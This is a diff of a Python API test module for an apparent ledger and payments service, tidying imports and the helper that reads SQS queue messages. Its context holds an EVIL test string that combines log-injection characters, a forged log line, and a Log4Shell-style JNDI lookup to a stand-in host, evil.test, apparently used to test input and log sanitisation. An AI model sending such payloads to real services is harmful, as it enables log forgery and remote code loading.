@@ -17,12 +17,18 @@ from chalicelib.identity import passwords
 from chalicelib.kernel.idempotency import RequestKey
 from chalicelib.ledger import service, store
 from chalicelib.observability import logger
-from chalicelib.settings import settings
 from tests.api.bad_input_kit import BODIES, allowed, name_of, nobody_answers, path_of
 from tests.api.caller import Caller, Reply
 from tests.api.topup_kit import stripe_signed
 from tests.api.world import World, cheap_passwords, fresh_key
-from tests.conftest import PEPPER, SANDBOX_WEBHOOK_SECRET, SIGNING_KEY, STRIPE_WEBHOOK_SECRET, FrozenClock
+from tests.conftest import (
+    PEPPER,
+    SANDBOX_WEBHOOK_SECRET,
+    SIGNING_KEY,
+    STRIPE_WEBHOOK_SECRET,
+    FrozenClock,
+    urls_of_queues,
+)
 from tests.environment import mainland
 
 EVIL = 'canary\r\n{"level":"ERROR","message":"forged"}\x1b[31m\x00${jndi:ldap://evil.test/a}\u2028\u2029\u0085%0d%0a'
@@ -88,8 +94,7 @@ def world(cloud: None, clock: FrozenClock, monkeypatch: pytest.MonkeyPatch) -> W
 
 
 def bodies_of_queues() -> Iterator[str]:
-    named = settings()
-    for url in (named.settlement_queue_url, named.fold_queue_url, named.notices_queue_url, named.parked_queue_url):
+    for url in urls_of_queues():
         while found := cloud.client("sqs").receive_message(QueueUrl=url, MaxNumberOfMessages=10).get("Messages"):
             yield from (str(message) for message in found)
 
